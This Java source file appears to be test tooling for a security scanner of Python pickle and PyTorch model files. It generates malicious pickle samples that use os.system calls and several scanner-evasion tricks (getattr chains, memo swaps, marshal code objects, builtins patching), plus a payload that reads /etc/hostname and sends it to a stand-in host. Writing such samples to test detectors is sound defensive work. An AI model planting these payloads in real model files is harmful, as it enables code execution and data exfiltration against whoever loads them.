package io.weighbridge.scan;

import static io.weighbridge.scan.PickleCode.protocol;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What a pickle does to its reader, and to scanners that read it otherwise. */
final class PickleAttacks {
  private PickleAttacks() {}

  static Map<String, Attack> all() {
    var attacks = new LinkedHashMap<String, Attack>();
    attacks.put("call", PickleAttacks::call);
    attacks.put("call-in", PickleAttacks::callIn);
    attacks.put("call-then-build", a -> pickle(thenBuild(a)));
    attacks.put("obj-then-pop", a -> pickle(objThenPop(a)));
    attacks.put("method-of-import", a -> pickle(methodOfImport(a.getFirst(), a.getLast())));
    attacks.put("locate-and-call", a -> pickle(locate()));
    attacks.put("resolve-name", a -> pickle(resolve()));
    attacks.put("getattr-chain", a -> pickle(getattrChain()));
    attacks.put("import-then-getattr", a -> pickle(importThenGetattr()));
    attacks.put("stack-global-first", a -> pickle(stackGlobalFirst()));
    attacks.put("memo-swap", a -> pickle(memoSwap()));
    attacks.put("code-object", a -> pickle(codeObject()));
    attacks.put("patch-builtins", a -> pickle(patchBuiltins()));
    attacks.put("read-and-send", a -> pickle(readAndSend()));
    attacks.put("discrepancy", a -> pickle(Discrepancies.write(a.getFirst())));
    attacks.put("arguments-as-list", a -> pickle(Discrepancies.argumentsAsList()));
    attacks.put("frame-divergence", a -> pickle(Discrepancies.frameDivergence()));
    attacks.put("text-of-2-gib", a -> List.of(new Sample(List.of(Discrepancies.longText()))));
    return attacks;
  }

  static List<Sample> pickle(byte[] pickle) {
    return List.of(Sample.of("model.pkl", pickle));
  }

  /** In every protocol that can say the name, and inside of the archive that torch writes. */
  private static List<Sample> call(List<String> name) {
    String module = name.getFirst();
    String function = name.getLast();
    var samples = new ArrayList<Sample>();
    for (int protocol : function.indexOf('.') < 0 ? new int[] {0, 2, 4} : new int[] {4}) {
      byte[] pickle = PickleCode.call(protocol, module, function);
      samples.add(Sample.of("model.pkl", pickle));
      samples.add(Sample.of("pytorch_model.bin", ContainerAttacks.torchZip(pickle)));
    }
    return samples;
  }

  /** Under the names of the files that this library unpickles. */
  private static List<Sample> callIn(List<String> paths) {
    return paths.stream().map(path -> Sample.of(path, PickleCode.call(2, "os", "system"))).toList();
  }

  /** The result is used, so that a check for unused results stays quiet. */
  private static byte[] thenBuild(List<String> name) {
    return protocol(4)
        .stackGlobal(name.getFirst(), name.getLast())
        .shortText("echo x")
        .raw(0x85)
        .op("R")
        .shortText("gottem")
        .op("b")
        .stop();
  }

  /** OBJ calls; POP throws the result away. */
  private static byte[] objThenPop(List<String> name) {
    return protocol(4)
        .op("(")
        .stackGlobal(name.getFirst(), name.getLast())
        .shortText("echo x")
        .op("o0N")
        .stop();
  }

  /** {@code methodcaller('system', 'echo x')(__import__('os'))}, or attrgetter. */
  private static byte[] methodOfImport(String module, String function) {
    var code =
        protocol(4)
            .stackGlobal("builtins", "__import__")
            .shortText("os")
            .raw(0x85)
            .op("Rq\0" + "0");
    code.stackGlobal(module, function).op("(").shortText("system");
    if (function.equals("methodcaller")) {
      return code.shortText("echo x").op("tR").op("h\0").raw(0x85).op("R").stop();
    }
    return code.op("tR").op("h\0").raw(0x85).op("R").shortText("echo x").raw(0x85).op("R").stop();
  }

  private static byte[] locate() {
    return protocol(4)
        .stackGlobal("pydoc", "locate")
        .shortText("os")
        .raw(0x85)
        .op("Rq\0" + "0")
        .stackGlobal("operator", "methodcaller")
        .op("(")
        .shortText("system")
        .shortText("echo x")
        .op("tR")
        .op("h\0")
        .raw(0x85)
        .op("R")
        .stop();
  }

  private static byte[] resolve() {
    return protocol(4)
        .stackGlobal("pkgutil", "resolve_name")
        .shortText("os:system")
        .raw(0x85)
        .op("R")
        .shortText("echo x")
        .raw(0x85)
        .op("R")
        .stop();
  }

  /** eval, reached through the attributes of a callable that nobody suspects. */
  private static byte[] getattrChain() {
    return protocol(4)
        .stackGlobal("builtins", "getattr")
        .stackGlobal("collections", "OrderedDict.fromkeys.__self__.__init__")
        .shortText("__globals__")
        .raw(0x86)
        .op("Rq\0" + "0")
        .stackGlobal("builtins", "getattr")
        .stackGlobal("builtins", "__dict__")
        .shortText("eval")
        .raw(0x86)
        .op("R")
        .shortText("1")
        .raw(0x85)
        .op("R")
        .stop();
  }

  private static byte[] importThenGetattr() {
    return protocol(0)
        .global("builtins", "__import__")
        .op("(")
        .text("os")
        .op("tRp0\n0")
        .global("builtins", "getattr")
        .op("(g0\n")
        .text("system")
        .op("tR(")
        .text("echo x")
        .op("tR")
        .stop();
  }

  /** The first operand stands at the very first opcode. */
  private static byte[] stackGlobalFirst() {
    return protocol(0)
        .op("S'os'\nS'system'\n")
        .raw(0x93)
        .op("S'echo x'\n")
        .raw(0x85)
        .op("R")
        .stop();
  }

  /** The name is put under one key, an innocent one under the next, and the first is fetched. */
  private static byte[] memoSwap() {
    return protocol(4)
        .shortText("os")
        .op("q\5" + "0")
        .shortText("system")
        .op("q\6" + "0")
        .shortText("collections")
        .op("q\1" + "0")
        .shortText("OrderedDict")
        .op("q\0" + "0h\5h\6")
        .raw(0x93)
        .shortText("echo x")
        .raw(0x85)
        .op("R")
        .stop();
  }

  /** {@code types.FunctionType(marshal.loads(b'…'), {})()}. */
  private static byte[] codeObject() {
    return protocol(4)
        .stackGlobal("types", "FunctionType")
        .stackGlobal("marshal", "loads")
        .bytes(new byte[] {(byte) 0xe3, 0, 0, 0, 0})
        .raw(0x85)
        .op("R}")
        .raw(0x86)
        .op("R)R")
        .stop();
  }

  /** numpy.size becomes what the module's builtins say. */
  private static byte[] patchBuiltins() {
    return protocol(4)
        .stackGlobal("numpy", "size")
        .op("q\1")
        .stackGlobal("numpy", "__builtins__")
        .op("q\3" + "0h\1}}")
        .shortText("shape")
        .op("h\3s")
        .raw(0x86)
        .op("bh\1h\1")
        .shortText("eval")
        .raw(0x86)
        .op("R")
        .shortText("1")
        .raw(0x85)
        .op("R")
        .stop();
  }

  /** A file is read and sent to another host, without a word that runs code. */
  private static byte[] readAndSend() {
    return protocol(4)
        .stackGlobal("urllib.request", "urlopen")
        .shortText("http://example.invalid/")
        .stackGlobal("_io", "FileIO")
        .shortText("/etc/hostname")
        .raw(0x85)
        .op("R")
        .raw(0x86)
        .op("R")
        .stop();
  }
}
